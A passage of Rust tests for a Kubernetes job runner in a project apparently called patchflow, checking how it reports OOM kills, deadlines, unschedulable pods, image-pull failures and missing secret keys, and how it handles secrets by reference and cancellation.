        .on(Route::ListPods, list("PodList", vec![oom]))
        // The job fails only once the pod list has been served.
        .after(
            Route::ListPods,
            Route::WatchJobs,
            events(&[(
                "MODIFIED",
                job_json(cond(
                    "Failed",
                    "BackoffLimitExceeded",
                    "Job has reached the specified backoff limit",
                )),
            )]),
        )
        .on(Route::DeleteJob, ok(running_job()));
    let run = run_with(script, None, true).await;
    let e = run.result.unwrap_err().to_string();
    assert!(e.contains("OOMKilled"), "{e}");
    assert!(e.contains("137"), "{e}");
}

#[tokio::test]
async fn a_deadline_exceeded_job_fails_on_wall_time() {
    let script = Script::default()
        .on(Route::CreateJob, ok(running_job()))
        .on(
            Route::ListJobs,
            list(
                "JobList",
                vec![job_json(cond(
                    "Failed",
                    "DeadlineExceeded",
                    "Job was active longer than specified deadline",
                ))],
            ),
        )
        .on(Route::ListPods, list("PodList", vec![]))
        .on(Route::DeleteJob, ok(running_job()));
    let run = run_with(script, None, true).await;
    let e = run.result.unwrap_err().to_string();
    assert!(e.contains("wall time"), "{e}");
}

#[tokio::test]
async fn an_unschedulable_pod_fails_with_the_scheduler_message() {
    let msg = "0/3 nodes are available: 3 Insufficient memory.";
    let pending = pod_json(json!({"phase": "Pending", "conditions": [{
        "type": "PodScheduled", "status": "False", "reason": "Unschedulable", "message": msg}]}));
    let script = Script::default()
        .on(Route::CreateJob, ok(running_job()))
        .on(Route::ListJobs, list("JobList", vec![running_job()]))
        .on(Route::ListPods, list("PodList", vec![pending]))
        .on(Route::DeleteJob, ok(running_job()));
    let run = run_with(script, None, true).await;
    let e = run.result.unwrap_err().to_string();
    assert!(e.contains(msg), "{e}");
    assert_eq!(
        run.events,
        vec![AgentEvent::Pod {
            phase: "Pending: Unschedulable".into()
        }],
        "the task's events say why it waits"
    );
    assert!(
        run.seen.iter().any(|s| s.method == Method::DELETE),
        "the stuck Job is removed"
    );
}

#[tokio::test]
async fn an_image_that_cannot_be_pulled_fails_naming_it() {
    let pulling = pod_json(json!({"phase": "Pending", "initContainerStatuses": [{
        "name": "fetch", "image": "ghcr.io/p/patchflow:1", "imageID": "", "ready": false,
        "restartCount": 0,
        "state": {"waiting": {"reason": "ImagePullBackOff", "message": "Back-off pulling image"}}}]}));
    let script = Script::default()
        .on(Route::CreateJob, ok(running_job()))
        .on(Route::ListJobs, list("JobList", vec![running_job()]))
        .on(Route::ListPods, list("PodList", vec![pulling]))
        .on(Route::DeleteJob, ok(running_job()));
    let run = run_with(script, None, true).await;
    let e = run.result.unwrap_err().to_string();
    assert!(e.contains("ghcr.io/p/patchflow:1"), "{e}");
    assert!(e.contains("ImagePullBackOff"), "{e}");
    assert_eq!(
        run.events,
        vec![AgentEvent::Pod {
            phase: "Pending: fetch ImagePullBackOff".into()
        }]
    );
}

fn with_secret_policy() -> TaskSpec {
    let mut s = spec();
    s.policy.allow_hosts = vec!["api.test".into()];
    s.policy.secrets = vec![patchflow_core::task::SecretHeader {
        host: "api.test".into(),
        header: "Authorization".into(),
        env: "PATCHFLOW_SECRET_API".into(),
    }];
    s
}

#[tokio::test]
async fn task_secrets_come_from_the_configured_secret_by_reference() {
    let mut c = config();
    c.task_secrets = Some("task-secrets".into());
    let script = completes().on(Route::CreateJob, ok(running_job()));
    let run = run_task(script, None, true, with_secret_policy(), c).await;
    assert_eq!(run.result.unwrap(), summary());
    let job = created_job(&run.seen);
    let env = job["spec"]["template"]["spec"]["containers"][0]["env"]
        .as_array()
        .unwrap()
        .clone();
    let secret = env
        .iter()
        .find(|e| e["name"] == "PATCHFLOW_SECRET_API")
        .expect("the named secret is in the agent's environment");
    assert_eq!(
        secret["valueFrom"],
        json!({"secretKeyRef": {"name": "task-secrets", "key": "PATCHFLOW_SECRET_API", "optional": false}})
    );
    assert!(secret.get("value").is_none(), "{secret}");
}

#[tokio::test]
async fn a_task_naming_secrets_is_refused_without_a_task_secrets_secret() {
    let script = completes().on(Route::CreateJob, ok(running_job()));
    let run = run_task(script, None, true, with_secret_policy(), config()).await;
    let e = run.result.unwrap_err();
    assert!(matches!(e, RunnerError::BadInput(_)), "{e:?}");
    let e = e.to_string();
    assert!(
        e.contains("PATCHFLOW_SECRET_API") && e.contains("kube_task_secrets"),
        "{e}"
    );
    assert!(
        !run.seen.iter().any(|s| s.method == Method::POST),
        "no Job is created"
    );
}

#[tokio::test]
async fn a_missing_secret_key_fails_the_attempt_with_the_kubelet_message() {
    let stuck = pod_json(json!({"phase": "Pending", "containerStatuses": [{
        "name": "agent", "image": "ghcr.io/p/patchflow:1", "imageID": "", "ready": false,
        "restartCount": 0,
        "state": {"waiting": {"reason": "CreateContainerConfigError",
            "message": "couldn't find key PATCHFLOW_SECRET_API in Secret ns/task-secrets"}}}]}));
    let mut c = config();
    c.task_secrets = Some("task-secrets".into());
    let script = Script::default()
        .on(Route::CreateJob, ok(running_job()))
        .on(Route::ListJobs, list("JobList", vec![running_job()]))
        .on(Route::ListPods, list("PodList", vec![stuck]))
        .on(Route::DeleteJob, ok(running_job()));
    let run = run_task(script, None, true, with_secret_policy(), c).await;
    let e = run.result.unwrap_err().to_string();
    assert!(
        e.contains("couldn't find key PATCHFLOW_SECRET_API in Secret ns/task-secrets"),
        "{e}"
    );
    assert!(e.contains("container agent"), "{e}");
}

#[tokio::test]
async fn cancel_deletes_the_job_in_the_foreground_and_waits_for_the_pod() {
    let running = pod_json(json!({"phase": "Running"}));
    let script = Script::default()
        .on(Route::CreateJob, ok(running_job()))
        .on(Route::ListJobs, list("JobList", vec![running_job()]))
        .on(Route::ListPods, list("PodList", vec![running.clone()]))
        .on(Route::DeleteJob, ok(running_job()))
        .after(
            Route::DeleteJob,
            Route::WatchPods,
            events(&[("DELETED", running)]),
        );
    let run = run_with(script, Some(Duration::from_millis(300)), true).await;
    assert!(
        matches!(run.result, Err(RunnerError::Cancelled)),
        "{:?}",
        run.result
    );
    let del = run
        .seen
        .iter()
        .position(|s| s.method == Method::DELETE)
        .expect("a DELETE");
    let body = run.seen[del].body.clone().unwrap();
    assert_eq!(body["propagationPolicy"], "Foreground");
    // The pod's deletion came on a watch answered only after the DELETE.
    assert!(
        run.seen[..del]
            .iter()
            .any(|s| s.uri.contains("/pods?") && s.uri.contains("watch=true"))
            || run.seen[del..]
                .iter()
                .any(|s| s.uri.contains("/pods?") && s.uri.contains("watch=true"))
    );
}

#[tokio::test]
async fn a_directory_store_is_refused() {
    let (mock, _handle) = tower_test::mock::pair::<Request<Body>, Response<Body>>();
    let runner = KubeRunner::new(kube::Client::new(mock, "default"), config());
    let dir = tempfile::tempdir().unwrap();
    let store = FsObjectStore::open(dir.path()).await.unwrap();
    let (tx, _rx) = tokio::sync::mpsc::unbounded_channel();
    let task: TaskId = TASK.parse().unwrap();
    let r = runner
        .run(
            &task,
            &spec(),
            None,
            &store,
            dir.path(),
            tx,
            CancellationToken::new(),
        )
        .await;
    match r {
        Err(RunnerError::BadInput(m)) => assert!(m.contains("presigned URLs"), "{m}"),
        other => panic!("{other:?}"),
    }
}
